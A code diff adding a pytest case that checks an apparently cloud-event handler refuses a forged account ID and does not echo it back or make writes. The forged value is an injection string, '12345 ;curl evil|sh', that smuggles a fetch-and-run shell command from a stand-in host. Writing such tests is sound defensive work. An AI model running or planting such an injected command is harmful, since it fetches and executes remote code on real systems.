@@ -261,6 +261,20 @@ def test_an_event_from_another_region_or_account_is_refused_clearly(
     assert attempts == []
 
 
+def test_a_forged_account_in_an_event_is_refused_without_being_repeated(
+    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    attempts = forbid_writes(factory)
+    monkeypatch.setenv("TRAINCTL_ACCOUNT_ID", "999999999999")
+    event = event_for("create_volume_iam_user")
+    forged = "12345 ;curl evil|sh\n<b>"
+    event["detail"]["recipientAccountId"] = forged
+    result = run(handler, event)
+    assert result["status"] == "refused" and "999999999999" in result["reason"]
+    assert "curl" not in result["reason"] and "\n" not in result["reason"]
+    assert attempts == []
+
+
 @pytest.mark.parametrize(
     "event",
     [
